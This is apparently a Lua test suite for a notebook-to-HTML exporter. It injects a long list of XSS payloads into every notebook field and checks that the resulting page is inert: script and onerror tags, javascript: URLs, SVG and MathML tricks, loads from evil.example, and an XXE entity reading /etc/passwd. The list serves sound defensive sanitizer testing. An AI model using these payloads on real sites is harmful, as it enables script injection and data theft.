-- SPDX-License-Identifier: MIT
-- The HTML page of a notebook: what its text cells become, and that nothing in it can run, load or navigate, whatever
-- the names, texts and outputs are.
local internal = debug.getregistry()['quoll.internal']
local page_of, text_of = internal.import 'interp/notebook/html', internal.import 'interp/notebook/text'
local math_of, plain = internal.import 'interp/notebook/math', internal.import 'interp/notebook/plain'

local function set(words)
	local s = {}
	for word in words:gmatch '%S+' do s[word] = true end
	return s
end

---------------------------------------------------------------- a strict reader of the page

local TAGS = set [[html head meta title style body nav main footer details summary div span a img pre code p br hr h1 h2 h3 h4 h5
h6 strong em del ul ol li table tr th td caption tbody thead blockquote b i sub sup small
svg g path rect circle ellipse line polyline polygon text tspan defs clipPath linearGradient radialGradient stop use pattern
math mrow mi mn mo mtext mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mspace]]
local PLAIN = set [[class version lang charset name content open id start colspan rowspan alt download xmlns d points x y x1 y1 x2 y2 cx cy r
rx ry width height viewBox transform fill fill-opacity fill-rule stroke stroke-width stroke-opacity stroke-linecap
stroke-linejoin stroke-dasharray font-family font-size font-weight font-style text-anchor dominant-baseline opacity clip-path id
offset stop-color color display xml:space mathvariant largeop stretchy accent linethickness]]

local function check_address(tag, name, value)
	if tag == 'img' then return value:find '^data:image/[%a+]+;base64,[%w+/=]*$' end
	if tag == 'use' then return value:find '^#[%w_.:-]+$' end
	if tag ~= 'a' or name ~= 'href' then return false end
	local plain = value:gsub('&amp;', '&')
	return plain:find '^#' or plain:find '^https?://[^%s"<>]+$' or plain:find '^data:application/octet%-stream;base64,[%w+/=]*$' or
		not plain:find '^[^/?#]*:' and not plain:find '^//' and not plain:find '[\\%c]'
end

-- What is wrong with the page, or nil. Every "<" must begin one of the tags, with quoted attributes of the list.
local function fault(page)
	local policy = [[<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">]]
	local at = page:find(policy, 1, true)
	if not page:find '^<!doctype html>\n' or not at or at > 200 then return 'no policy at its beginning' end
	page = page:sub(1, at - 1):gsub('^<!doctype html>', '') .. page:sub(at + #policy)
	page = page:gsub('<style>.-</style>', '', 1)
	local open, in_svg = {}, false
	for from, text in page:gmatch '()<([^>]*)>?' do
		local slash, tag, rest = text:match '^(/?)(%a[%w]*)(.*)$'
		if tag == 'svg' then in_svg = slash == '' end
		if not tag or not TAGS[tag] then return ('<%s at %d'):format(text:sub(1, 60), from) end
		local closed = slash == '' and #open > 0 and in_svg and rest:find '%s*/$' -- an empty element of a picture
		if closed then rest = rest:sub(1, closed - 1) end
		while rest ~= '' do
			local name, value, behind = rest:match '^%s+([%a][%w:-]*)="([^"<>]*)"()'
			if not name then name, value, behind = rest:match '^%s+(open)()()' end
			if not name then return ('<%s: %s'):format(tag, rest:sub(1, 60)) end
			if name == 'href' or name == 'src' then
				if not check_address(tag, name, value) then return ('%s=%s'):format(name, value:sub(1, 60)) end
			elseif not PLAIN[name] then
				return ('attribute %s of %s'):format(name, tag)
			elseif name ~= 'alt' and name ~= 'download' and type(value) == 'string' and value:lower():find 'url%(' and not value:find '^url%(#[%w_.:-]+%)$' then
				return value
			end
			rest = rest:sub(behind)
		end
		if slash == '' and not closed and not ({meta = 1, br = 1, hr = 1, img = 1})[tag] then
			open[#open + 1] = tag
		elseif slash == '/' and table.remove(open) ~= tag then
			return ('</%s> at %d closes something else'):format(tag, from)
		end
	end
	if #open > 0 then return 'not closed: ' .. open[#open] end
	if page:find '[%z\1-\8\11\12\14-\31\127]' or not utf8.len(page) then return 'control characters' end
end

local function notebook_of(cells, file)
	for i, cell in ipairs(cells) do
		cell.index, cell.tags, cell.metadata = i, cell.tags or {}, cell.metadata or {}
	end
	return {cells = cells, metadata = {}, file = file or 'a.lua', format = 'lua'}
end

local function text_page(source) return text_of(source, {headings = {}, folder = ''}) end

---------------------------------------------------------------- hostile texts

local PAYLOADS = {
	'<script>alert(1)</script>', '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<img src=x onerror=alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src="javascript:alert(1)">',
	'<img src=`x`onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><image href="http://evil.example/x.png"/></svg>',
	'<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>', '<svg><use xlink:href="http://evil.example/#a"/></svg>',
	'<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
	'<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<svg><set attributeName=onload to=alert(1) /></svg>',
	'<svg><style>@import "http://evil.example/x.css";</style></svg>', '<svg><rect fill="url(http://evil.example/x)"/></svg>',
	'<svg><rect style="fill:url(javascript:alert(1))" onclick="alert(1)"/></svg>', '<svg><title><img src=x onerror=alert(1)></title></svg>',
	'<svg></p><style><g title="</style><img src=x onerror=alert(1)>"></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<iframe src="http://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)">',
	'<embed src="http://evil.example/x.swf">', '<link rel=stylesheet href=http://evil.example/x.css>', '<base href="http://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=http://evil.example">', '<form action="javascript:alert(1)"><button>x</button></form>',
	'<input autofocus onfocus=alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>',
	'<marquee onstart=alert(1)>', '<div style="background:url(http://evil.example/x)">x</div>', '<div style="width:expression(alert(1))">',
	'<a href="javascript:alert(1)">x</a>', '<a href=" &#1; javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
	'[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)',
	'[x](java&#115;cript:alert(1))', '[x](//evil.example/x)', '[x](/\\evil.example)', '[x](http://a.example/"onmouseover="alert(1))',
	'![x](http://evil.example/x.png)', '![x" onerror="alert(1)](x.png)', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	'![x](javascript:alert(1))', '<javascript:alert(1)>', '<http://a.example/" onclick="alert(1)>', '</pre></code></div><script>alert(1)</script>',
	'</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '--></style><!--<script>alert(1)//-->', '<!--[if IE]><script>alert(1)</script><![endif]-->',
	'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', ']]><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>',
	'+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<scr\0ipt>alert(1)</scr\0ipt>', '\0<img src=x onerror=alert(1)>', '\192\188script\192\190alert(1)',
	'\27[31mred\27[0m\27]8;;http://evil.example\7x', '"onmouseover="alert(1)', "'onmouseover='alert(1)", '&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;', '$\\text{<script>alert(1)</script>}$', '$\\href{javascript:alert(1)}{x}$ $$<img src=x onerror=alert(1)>$$',
	'# <img src=x onerror=alert(1)> {#x onclick=alert(1)}', '| <script> | `|` |\n|---|---|\n| <img src=x onerror=alert(1)> | x |',
	'```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```', '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<textarea><img src=x onerror=alert(1)></textarea>',
	'<table><td background="javascript:alert(1)">', '\u{202e}<script>alert(1)</script>', '<a href="https://ok.example" target=_blank onclick=alert(1) ping=http://evil.example>x</a>',
}
print(#PAYLOADS >= 60)  --> true

-- Every place of a notebook into which somebody else's text can come.
local function hostile(payload)
	local bundle = {['text/html'] = payload, ['text/plain'] = payload}
	local function result(data) return {output_type = 'execute_result', data = data, metadata = {[payload] = payload}} end
	return {
		{kind = 'markdown', source = payload}, {kind = 'markdown', source = 'a ' .. payload .. '\n\n# ' .. payload .. '\n\n- ' .. payload},
		{kind = 'markdown', source = '[' .. payload .. '](' .. payload .. ') ![' .. payload .. '](' .. payload .. ') **' .. payload .. '**'},
		{kind = 'markdown', source = '> ' .. payload, attachments = {[payload] = {['image/png'] = payload}}},
		{kind = 'raw', source = payload},
		{kind = 'code', source = payload, metadata = {title = payload, tags = {payload}, [payload] = payload}, tags = {[payload] = true},
			outputs = {{output_type = 'stream', name = 'stdout', text = payload}, {output_type = 'stream', name = 'stderr', text = payload},
				{output_type = 'note', text = payload}, {output_type = 'error', ename = payload, evalue = payload, traceback = {payload}},
				{output_type = 'error', ename = payload, evalue = payload, traceback = {}}, result(bundle), result {['text/plain'] = payload},
				result {['image/svg+xml'] = payload}, result {['image/svg+xml'] = '<svg ' .. payload .. '><g>' .. payload .. '</g></svg>' .. payload},
				result {['image/png'] = payload}, result {['text/markdown'] = payload}, result {['text/latex'] = payload},
				result {[payload] = payload}, result {['text/html'] = '<table><caption>' .. payload .. '</caption><tr><td ' .. payload .. '>x'},
				result {['image/png'] = 'iVBORw0KGgo=', ['text/plain'] = payload}}},
	}
end

it('makes inert pages of hostile notebooks', function()
	for i, payload in ipairs(PAYLOADS) do
		local page = page_of(notebook_of(hostile(payload), 'x' .. payload:gsub('[%z/]', '') .. '.lua'))
		local wrong = fault(page)
		assert(not wrong, ('payload %d %q: %s'):format(i, payload, tostring(wrong)))
		if os.getenv 'QUOLL_KEEP' then
			local file = assert(io.open(('%s/hostile%d.html'):format(os.getenv 'QUOLL_KEEP', i), 'wb'))
			file:write(page)
			file:close()
		end
	end
end)
-- The same as a file that somebody else wrote: every name and every text of an .ipynb.
local function hostile_file(payload)
	local json = internal.import 'interp/prelude/json_write'
	local function list(items) return setmetatable(items, json.ARRAY) end
	local function data() return {['text/html'] = payload, ['text/plain'] = list {payload}, [payload] = payload} end
	local outputs = list {{output_type = 'stream', name = 'stdout', text = list {payload}}, {output_type = 'stream', name = payload, text = payload},
		{output_type = 'display_data', data = data(), metadata = {[payload] = payload}},
		{output_type = 'execute_result', execution_count = 1, data = {['image/svg+xml'] = '<svg ' .. payload .. '>' .. payload .. '</svg>'}, metadata = {}},
		{output_type = 'display_data', data = {['image/png'] = payload, ['text/markdown'] = payload}, metadata = {}},
		{output_type = 'error', ename = payload, evalue = payload, traceback = list {payload, '\27[31m' .. payload}}}
	local hostile_metadata = {title = payload, tags = list {payload}, [payload] = {[payload] = payload}}
	return json.write {nbformat = 4, nbformat_minor = 5, metadata = {title = payload, authors = list {{name = payload}}, [payload] = payload,
		kernelspec = {name = payload, display_name = payload, language = payload}, language_info = {name = payload, file_extension = payload}},
		cells = list {{cell_type = 'markdown', id = 'a1', metadata = hostile_metadata, source = '# ' .. payload .. '\n\n' .. payload,
			attachments = {[payload] = {['image/png'] = payload}}},
		{cell_type = 'raw', id = 'b2', metadata = hostile_metadata, source = list {payload}},
		{cell_type = 'code', id = 'c3', metadata = hostile_metadata, source = payload, execution_count = 3, outputs = outputs}}}
end

it('makes inert pages of hostile .ipynb files', function()
	local notebook, path, made = internal.import 'interp/notebook/notebook', os.tmpname() .. '.ipynb', 0
	for i, payload in ipairs(PAYLOADS) do
		payload = utf8.len(payload) and payload or payload:gsub('[\128-\255]', '?') -- JSON is UTF-8
		internal.write_file(path, hostile_file(payload))
		local good, nb = pcall(notebook.open, path)
		if good then -- else it was refused
			made = made + 1
			local page = page_of(nb)
			local wrong = fault(page)
			assert(not wrong, ('payload %d %q: %s'):format(i, payload, tostring(wrong)))
			if os.getenv 'QUOLL_KEEP' then internal.write_file(('%s/ipynb%d.html'):format(os.getenv 'QUOLL_KEEP', i), page) end
		else
			assert(type(nb) == 'string' and nb:find '%.ipynb: ' and not nb:find '^quoll/', tostring(nb))
		end
	end
	os.remove(path)
	assert(made >= 60, made)
end)
it('knows a page that is not inert', function()
	local page = page_of(notebook_of{{kind = 'markdown', source = 'x'}})
	assert(not fault(page))
	for _, bad in ipairs {'<script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="http://a/">', '<p>', '<p/>', '</p>', '<', '\0',
		'<rect fill="url(http://x)">'} do
		assert(fault((page:gsub('<p>x</p>', function() return bad end))), bad)
	end
end)
it('shows figures and reports whose texts are hostile', function()
	local mime = internal.import 'interp/prelude/mime'
	for i = 1, #PAYLOADS, 7 do
		local text = PAYLOADS[i]:gsub('%z', '')
		local fig = plot.line{{1, 2, 3}, title = text, xlabel = text}
		local good, wrong = pcall(mime.bundle, fig)
		local cell = {kind = 'code', source = 'x', outputs = {{output_type = 'execute_result', data = good and wrong or {}},
			{output_type = 'execute_result', data = mime.bundle(report{{a = text, [text] = 2}, note = text})}}}
		wrong = fault(page_of(notebook_of{cell}))
		assert(not wrong, wrong)
	end
end)

it('folds long tables, and cuts their first line', function()
	local mime = internal.import 'interp/prelude/mime'
	local function page(value)
		return page_of(notebook_of{{kind = 'code', source = 'x', outputs = {{output_type = 'execute_result', data = mime.bundle(value)}}}})
	end
	local r = report()
	for i = 1, 40 do r:add{i = i} end
	local short, long = page(r), page(r:add{i = 41})
	assert(not short:find '<details><summary>%d' and long:find '<details><summary>41 rows: i</summary><div>' and not fault(long))
	long = page(('ä<'):rep(100) .. ('\n'):rep(50))
	assert(long:find('<summary>1 lines', 1, true) == nil, 'a text value is in one line')
	long = page_of(notebook_of{{kind = 'code', source = 'x', outputs = {{output_type = 'stream', name = 'stdout', text = ('ä<'):rep(100) .. ('\nx'):rep(50)}}}})
	assert(long:find('<summary>51 lines: ' .. ('ä&lt;'):rep(29) .. 'ä…</summary>', 1, true) and not fault(long))
end)
it('has a colour for dark pages for every grey of a figure', function()
	local style = internal.import 'interp/prelude/page'
	local dark = style:match '@media %b() (%b{})' .. style:match 'border%-radius: 6px; }\n@media %(prefers%-color%-scheme: dark%) (%b{})'
	local figures = {plot.line {{1, 3}, {2, 2}, names = {'a', 'b'}, title = 't', xlabel = 'x', ylabel = 'y'}, plot.line {{1, 100}, ylog = true},
		plot.scatter {x = {1, 1, 1, 1}, y = {1, 1, 1, 1}, label = {'aa', 'bb', 'cc', 'dd'}}, plot.hist {tensor.randn(50)}, plot.bar {{1, 2}},
		plot.box {{1, 2, 3}}, plot.heat {{{1, 2}, {3, 0 / 0}}}, plot.line {{1, 2, 3}, vlines = {2}, hlines = {2}}}
	if not pcall(figures[1].svg, figures[1]) then skip 'no plplot' end
	for _, figure in ipairs(figures) do
		local svg = figure:svg()
		assert(internal.import 'interp/prelude/mime'.is_figure(svg))
		for tag, name, red, green, blue in svg:gmatch '<(%a+)[^>]- (%a+)="#(%x%x)(%x%x)(%x%x)"' do
			local grey = red == green and green == blue and name ~= 'color' and tag ~= 'rect'
			local colour = '#' .. red .. green .. blue
			local on_colour = colour == '#252525' or colour == '#DDDDDD' or tag == 'text' and colour == '#FFFFFF' -- the cells of heat
			assert(not grey or on_colour or dark:find(('[%s="%s"]'):format(name, colour), 1, true), ('%s %s="%s"'):format(tag, name, colour))
		end
	end
	-- the figures of others keep the white page that they were made for
	assert(not internal.import 'interp/prelude/mime'.is_figure '<svg width="5"><text color="#262626"/></svg>')
end)

---------------------------------------------------------------- what text becomes

it('writes text cells', function()
	for source, html in pairs {
		['a *b* **c** `d<e` ~~f~~ \\*g'] = '<p>a <em>b</em> <strong>c</strong> <code>d&lt;e</code> <del>f</del> *g</p>',
		['a_b_c 2 * 3 * 4 `*` "q"'] = '<p>a_b_c 2 * 3 * 4 <code>*</code> &quot;q&quot;</p>',
		['[a b](x.html) [c](https://d.e/f_(g) "t")'] = '<p><a href="x.html">a b</a> <a href="https://d.e/f_(g)">c</a></p>',
		['<https://a.b>'] = '<p><a href="https://a.b">https://a.b</a></p>',
		['- a\n- b\n  - c\n\nd'] = '<ul>\n<li>a</li>\n<li><p>b</p>\n<ul>\n<li>c</li>\n</ul></li>\n</ul>\n<p>d</p>',
		['3. a\n4. b'] = '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>',
		['| a | b |\n|---|--:|\n| `x|y` | 2 |'] = '<table><tr><th>a</th><th class="n">b</th></tr>\n<tr><td><code>x|y</code></td><td class="n">2</td></tr>\n</table>',
		['```lua\nlocal x = 1\n```'] = '<pre><code><span class="k">local</span> x = <span class="n">1</span></code></pre>',
		['> a\n> b\n\n---'] = '<blockquote><p>a\nb</p></blockquote>\n<hr>',
		['## A `b` ##'] = '<h2 id="s1">A <code>b</code></h2>',
		['costs 5$ and 6$'] = '<p>costs 5$ and 6$</p>',
	} do
		local got = text_page(source):gsub('<li><p>b</p>', '<li><p>b</p>')
		local want = html:gsub('<p>b</p>\n<ul>', 'b<ul>')
		assert(got == want or got == html, source .. '\n' .. got .. '\n' .. want)
	end
end)
it('takes pictures beside the notebook into the page, and no other file', function()
	local folder, put = dofile 'tests/tools/scratch.lua'.folder()
	os.execute('mkdir ' .. folder .. '/sub')
	put('a.png', '\137PNG\r\n\26\nxyz')
	put('b.png', 'no picture')
	local function html(address) return text_of('![t](' .. address .. ')', {headings = {}, folder = folder .. '/sub/../'}) end
	assert(html 'a.png' == '<p><img alt="t" src="data:image/png;base64,iVBORw0KGgp4eXo="></p>', html 'a.png')
	assert(html 'b.png' == '<p><a href="b.png">t</a></p>' and html 'sub/../a.png':find '<a href' and not html '/etc/passwd':find '<img')
end)
it('writes formulas', function()
	local function body(tex, display) return (math_of(tex, display):gsub('^<math[^>]*><mrow>', ''):gsub('</mrow></math>$', '')) end
	for tex, want in pairs {
		['x^2'] = '<msup><mi>x</mi><mn>2</mn></msup>',
		['\\frac{a}{b+1}'] = '<mfrac><mi>a</mi><mrow><mi>b</mi><mo>+</mo><mn>1</mn></mrow></mfrac>',
		['\\alpha_i^{2n}'] = '<msubsup><mi>α</mi><mi>i</mi><mrow><mn>2</mn><mi>n</mi></mrow></msubsup>',
		['\\sqrt[3]{x}'] = '<mroot><mi>x</mi><mn>3</mn></mroot>',
		['\\text{a < b}'] = '<mtext>a\u{A0}&lt;\u{A0}b</mtext>',
		['\\nosuch x'] = '<mtext>\\nosuch</mtext><mi>x</mi>',
		['\\mathbb{R}'] = '<mi mathvariant="normal">ℝ</mi>',
		['\\begin{matrix}1&2\\\\3&4\\end{matrix}'] = '<mtable><mtr><mtd><mn>1</mn></mtd><mtd><mn>2</mn></mtd></mtr><mtr><mtd><mn>3</mn></mtd><mtd><mn>4</mn></mtd></mtr></mtable>',
	} do
		assert(body(tex) == want, tex .. '\n' .. body(tex))
	end
	assert(body('\\sum_{i=1}^n', true):find '^<munderover><mo largeop="true">∑</mo>')
	for _, broken in ipairs {'\\frac', '{', '}', '^', '_', '\\', '\\left', '\\begin{matrix}', '\\end{x}', '\\text', '\\sqrt[', '&', ('{'):rep(500),
		('\\frac{1}{'):rep(300), ('^'):rep(300), ('\\mathrm{\\x{'):rep(200)} do
		assert(math_of(broken, true):find '^<math.*</math>$', broken)
	end
end)
it('takes only markup that is its own', function()
	for _, own in ipairs {'a &lt; b', '<table class="tensor"><tr><td colspan="2">a</td></tr></table><p>b<br>c</p>', '<b>a <em>b</em></b>'} do
		assert(plain.is_html(own), own)
	end
	for _, foreign in ipairs {'a > b', '<', '<b', '<table border="1"><tr></tr></table>', '<b onclick="x">a</b>', '<b class="x" id="y">a</b>', '<b>a', 'a</b>',
		'<b><em>a</b></em>', '<div/>', '<B>a</B>', '<img src="x">', '<a href="x">a</a>', '<style></style>', '<b class=x>a</b>', '<b class="x"y>a</b>',
		'<b class="x" class="<">a</b>', '<!-- x -->', '<svg></svg>', '<td colspan="99999">a</td>', '<b class="a b">a</b>'} do
		assert(not plain.is_html(foreign), foreign)
	end
	local own = '<svg width="5" viewBox="0 0 5 5"><g clip-path="url(#q1)"><path d="M0 0"/></g></svg>'
	assert(plain.svg(own) == own and plain.svg('<?xml version="1.0"?><!DOCTYPE svg>' .. own) == own)
	for _, foreign in ipairs {'no picture', '<svg', '<svg>', own .. '<p>', own .. '</svg>', '<svg onload="x"></svg>', '<svg><style></style></svg>',
		'<svg><g fill="url(http://x)"/></svg>', '<svg><g fill="url(x)"/></svg>', '<svg><g fill="&#117;rl(x)"/></svg>', '<svg><g fill="a\\b"/></svg>',
		'<svg><g clip-path="url(x#q1)"/></svg>', '<svg xmlns="http://x"></svg>', '<svg><g style="fill:red"/></svg>', '<svg><a href="x"/></svg>',
		'<svg><use href="#a"/></svg>', '<svg><image/></svg>', '<svg><animate/></svg>', '<svg><set/></svg>', '<svg><title>x</title></svg>',
		'<svg><foreignObject><p>x</p></foreignObject></svg>', "<svg width='5'></svg>"} do
		assert(not plain.svg(foreign), foreign)
	end
end)
it('shows HTML of others as text and their SVG as a picture', function()
	local function out(data)
		local page = page_of(notebook_of{{kind = 'code', source = 'x', outputs = {{output_type = 'execute_result', data = data}}}})
		assert(not fault(page), fault(page))
		return page:match '<div class="out">(.-)</div>\n</div>\n</main>'
	end
	local note = '<pre class="note">(HTML, shown as text)</pre>'
	local pandas = '<table border="1" class="dataframe"><tr><th>a</th></tr></table>'
	assert(out{['text/html'] = pandas, ['text/plain'] = '   a\n0  1'} == '<pre>   a\n0  1</pre>' .. note)
	assert(out{['text/html'] = '<i id=x>a</i>'} == '<pre>&lt;i id=x&gt;a&lt;/i&gt;</pre>' .. note)
	assert(out{['text/html'] = pandas, ['text/markdown'] = '*a*'} == '<div class="text"><p><em>a</em></p></div>')
	assert(out{['text/html'] = '<table><tr><td>a</td></tr></table>', ['text/plain'] = 'a'} == '<div><table><tr><td>a</td></tr></table></div>')
	local mime = internal.import 'interp/prelude/mime'
	assert(out{['image/svg+xml'] = '<?xml?><svg onload="x"><style/></svg>', ['text/plain'] = 'a"b'} ==
		'<div class="fig"><img alt="a&quot;b" src="data:image/svg+xml;base64,' ..
		mime.base64 '<svg xmlns="http://www.w3.org/2000/svg" onload="x"><style/></svg>' .. '"></div>')
	assert(out{['image/svg+xml'] = '<svg width="5"><rect width="5"/></svg>'} == '<div class="fig"><svg width="5"><rect width="5"/></svg></div>')
	assert(out{['image/svg+xml'] = '<svg onload="x"></svg>', ['image/png'] = 'iVBORw0KGgo='}:find 'data:image/png')
	assert(out{['image/svg+xml'] = 'none', ['text/plain'] = 'a'} == '<pre>a</pre>')
end)
it('takes in its own figures, tensors, reports and models as markup', function()
	local mime = internal.import 'interp/prelude/mime'
	local values = {tensor.randn(3, 4), tensor.randn(2, 3, 4), tensor.randn(30, 40):quantize 'int8/1', report{{a = '<x>', b = 1, note = 'n&m'}},
		nn.Sequential{nn.Linear(2, 3), nn.ReLU()}}
	for _, value in ipairs(values) do assert(plain.is_html(mime.bundle(value)['text/html']), mime.bundle(value)['text/html']) end
	local figures = {plot.line {{1, 3}, {2, 2}, names = {'a', 'b'}, title = '<t> & "u"', xlabel = 'x', ylabel = 'ü'}, plot.line {{1, 100}, ylog = true},
		plot.scatter {x = {1, 1, 2, 1}, y = {1, 1, 3, 1}, label = {'aa', 'bb', 'cc', 'dd'}}, plot.hist {tensor.randn(50)}, plot.bar {{1, 2}},
		plot.box {{1, 2, 3}}, plot.heat {{{1, 2}, {3, 0 / 0}}}, plot.line {{1, 2, 3}, vlines = {2}, hlines = {2}, yerr = {1, 1, 1}}}
	if not pcall(figures[1].svg, figures[1]) then skip 'no plplot' end
	for _, figure in ipairs(figures) do assert(plain.svg(figure:svg()), figure:svg()) end
end)
it('judges long markup in linear time', function()
	local start = hw.clock()
	for _, text in ipairs {('<b>'):rep(3e5), '<b' .. (' '):rep(1e6) .. '=>', '<b ' .. ('class="x" '):rep(1e5) .. '>', ('<'):rep(1e6),
		('<svg '):rep(2e5), ('<svg>'):rep(2e5) .. ('</svg> '):rep(2e5)} do
		assert(not plain.is_html(text) and (not plain.svg(text) or text:find '</svg>'))
	end
	assert(hw.clock() - start < 60)
end)
it('has contents, a download and folds long outputs', function()
	local lines = ('x\n'):rep(60)
	local page = page_of(notebook_of({{kind = 'markdown', source = '# A\n## B\n## C\n### D `e`'},
		{kind = 'code', source = 'local y = 1', outputs = {{output_type = 'stream', name = 'stdout', text = lines}}, seconds = 65,
			execution_count = 3, metadata = {title = 'T'}}}, 'tests/interp/notebook/html.lua'))
	assert(page:find '<title>A</title>' and page:find '<li class="l3"><a href="#s4">D <code>e</code></a></li>')
	assert(page:find '<summary>60 lines: x</summary>' and page:find '1 min 5 s' and page:find '%[3%]<span class="t">T</span>')
	assert(page:find '<a download="html.lua" href="data:application/octet%-stream;base64,LS0gU1BEWC' and not fault(page))
end)
